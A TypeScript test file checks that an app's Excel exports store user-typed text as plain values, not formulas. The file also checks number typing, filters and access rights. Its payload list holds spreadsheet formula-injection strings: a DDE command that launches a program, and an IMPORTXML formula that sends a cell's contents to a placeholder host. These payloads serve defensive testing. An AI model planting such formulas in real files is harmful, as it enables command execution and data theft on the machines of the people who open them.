import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportName } from '../../../src/schema/api/exportNames';
import { keep, full } from '../promise';
import { openCounter } from './helpers/counter';
import type { Counter } from './helpers/counter';

const run = promisify(execFile);
const office = [
  '/usr/bin/soffice',
  '/usr/bin/libreoffice',
  '/Applications/LibreOffice.app/Contents/MacOS/soffice',
].find(existsSync);

/** Texts that a spreadsheet would take for formulas, were they not typed. */
const hostile = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("http://example.test","Facture")',
  '=IMPORTXML(CONCAT("http://example.test/",A1),"//a")',
  '\uFF1D2+2',
  '"=1+1',
  "'=1+1",
  '=1+1;"x',
  '<f>1+1</f>',
  ']]><f>1+1</f>',
  '_x003D_1+1',
];

let counter: Counter;
beforeAll(async () => {
  counter = await openCounter();
});
afterAll(() => counter?.close());

async function excel(operation: string, args = ''): Promise<Uint8Array> {
  const answer = await counter.api.send<Record<string, string>>(counter.token, `{ ${operation}${args} }`);
  if (!answer.data) throw new Error(JSON.stringify(answer.errors));
  return Buffer.from(answer.data[operation] ?? '', 'base64');
}

const sheetOf = (file: Uint8Array) => {
  const parts = unzipSync(file);
  const sheet = Object.keys(parts).find(name => /^xl\/worksheets\/sheet1\.xml$/.test(name)) ?? '';
  return {
    sheet: strFromU8(parts[sheet]!),
    strings: strFromU8(parts['xl/sharedStrings.xml'] ?? new Uint8Array()),
  };
};

/** How many formulas LibreOffice finds in a file. */
async function formulasInOffice(file: Uint8Array): Promise<number> {
  const folder = await mkdtemp(join(tmpdir(), 'karhba-office-'));
  try {
    await writeFile(join(folder, 'list.xlsx'), file);
    await run(office ?? '', [
      '--headless',
      `-env:UserInstallation=file://${folder}/profile`,
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      join(folder, 'list.xlsx'),
    ]);
    return (await readFile(join(folder, 'list.fods'), 'utf8')).split('table:formula=').length - 1;
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

describe('un export ne contient pas de formule venue des données', () => {
  it('keeps as text whatever a person may have typed', async () => {
    const { api, token } = counter;
    for (const [at, text] of hostile.entries()) {
      const made = await api.send(
        token,
        `mutation ($t: Input, $n: Input) { createClient(clientType: "PHYSICAL", clientKind: "PASSAGE", phone: "20 123 456", address: $t, otherDetails: { firstName: $t, lastName: $t, CIN: $n }) { id } createService(name: $t) { id } createContractService(libelle: $t, address: $t, contractDetails: [{ service: "1", amount: "10" }]) { id } }`,
        { t: text, n: String(10_000_000 + at) },
      );
      expect(made.errors, text).toBeUndefined();
    }
    let cells = 0;
    let formulas = 0;
    for (const resource of api.engine.resources.all) {
      const list = resource.operations?.list;
      if (!list || !resource.list) continue;
      const file = await excel(exportName(list, 'Excel'));
      const { sheet, strings } = sheetOf(file);
      cells += sheet.split('<c ').length - 1;
      formulas += sheet.split(/<f[ >]/).length - 1;
      if (list === 'Services')
        for (const text of ['=1+1', '@SUM(1)']) expect(sheet + strings).toContain(`>${text}<`);
      if (full) formulas += office ? await formulasInOffice(file) : Number.NaN;
    }
    keep('P-33', {
      n: cells,
      of: full ? 'formulas, by the file and by LibreOffice' : 'formulas',
      figure: formulas,
      ideal: 0,
    });
  });

  it('types amounts, dates and numbers, follows the filters, and asks the right of the list', async () => {
    const { api } = counter;
    const contract = await counter.contract(['1234.567']);
    await counter.invoice(contract);
    const { sheet } = sheetOf(await excel('receiptsToExcel', '(status: "UNPAID")'));
    expect(sheet).toMatch(/<v>1234\.567<\/v>/);
    const none = sheetOf(await excel('receiptsToExcel', '(status: "PAID")'));
    expect(none.sheet.split('<row ').length - 1).toBe(1);
    const limited = await api.signIn('ADMIN', ['vehicles']);
    const refused = await api.send(limited.token, '{ receiptsToExcel }');
    expect(refused.errors?.[0]?.extensions.code).toBe('FORBIDDEN');
    expect((await api.send(limited.token, '{ vehiclesToExcel }')).errors).toBeUndefined();
    expect((await api.send(null, '{ vehiclesToExcel }')).errors?.[0]?.extensions.code).toBe(
      'UNAUTHENTICATED',
    );
  });
});
